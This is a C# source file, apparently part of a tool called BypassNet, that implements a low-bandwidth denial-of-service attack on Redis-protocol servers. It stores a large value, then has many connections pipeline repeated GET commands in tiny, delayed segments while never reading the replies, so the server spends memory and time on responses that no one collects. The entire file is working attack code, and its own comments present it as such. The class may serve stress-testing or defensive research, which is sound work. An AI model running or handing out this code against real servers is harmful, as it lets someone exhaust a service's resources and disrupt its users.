using System.Net;
using System.Net.Sockets;
using System.Text;

namespace BypassNet.Samples.Attack;

/// <summary>
/// The low-bandwidth stall on RESP: a large value is SET, then N connections pipeline <c>GET</c> of it G times, sent in
/// tiny segments, and never read the megabytes of replies. A few kilobytes of attacker traffic in all.
/// </summary>
internal sealed class RespDribble(IPEndPoint target, int connections, int valueKib, int gets, int segment, TimeSpan segmentDelay, int receiveBuffer) : IAttack
{
    private const string Key = "bypassnet:attack:big";
    private readonly AttackConnections _connections = new();
    private long _sent;

    public async Task StartAsync(CancellationToken cancel)
    {
        await SetValueAsync(cancel).ConfigureAwait(false);
        await _connections.OpenAsync(target, connections, receiveBuffer, TimeSpan.FromSeconds(2), cancel).ConfigureAwait(false);
        byte[] pipeline = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat($"*2\r\n$3\r\nGET\r\n${Key.Length}\r\n{Key}\r\n", gets)));
        // Every connection gets its next segment in turn, so all of them dribble at once.
        for (int offset = 0; offset < pipeline.Length && !cancel.IsCancellationRequested; offset += segment)
        {
            foreach (Socket socket in _connections.Sockets)
            {
                int n = Math.Min(segment, pipeline.Length - offset);
                socket.Send(pipeline, offset, n, SocketFlags.None);
                _sent += n;
            }

            await Task.Delay(segmentDelay, cancel).ConfigureAwait(false);
        }
    }

    public string Describe() =>
        $"{_connections.Sockets.Count} connections pipelined {gets} GETs of a {valueKib} KiB value in {segment}-byte segments, never reading: {_sent} B of attacker traffic";

    public ValueTask DisposeAsync() => _connections.DisposeAsync();

    private async Task SetValueAsync(CancellationToken cancel)
    {
        using var setup = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        await setup.ConnectAsync(target, cancel).ConfigureAwait(false);
        byte[] value = new byte[valueKib * 1024];
        Array.Fill(value, (byte)'x');
        await setup.SendAsync(Encoding.ASCII.GetBytes($"*3\r\n$3\r\nSET\r\n${Key.Length}\r\n{Key}\r\n${value.Length}\r\n"), SocketFlags.None, cancel).ConfigureAwait(false);
        await setup.SendAsync(value, SocketFlags.None, cancel).ConfigureAwait(false);
        await setup.SendAsync("\r\n"u8.ToArray(), SocketFlags.None, cancel).ConfigureAwait(false);
        var reply = new byte[16];
        int n = await setup.ReceiveAsync(reply, SocketFlags.None, cancel).ConfigureAwait(false);
        if (!reply.AsSpan(0, n).StartsWith("+OK"u8))
        {
            throw new InvalidDataException($"SET of the large value answered '{Encoding.ASCII.GetString(reply, 0, n)}'.");
        }
    }
}
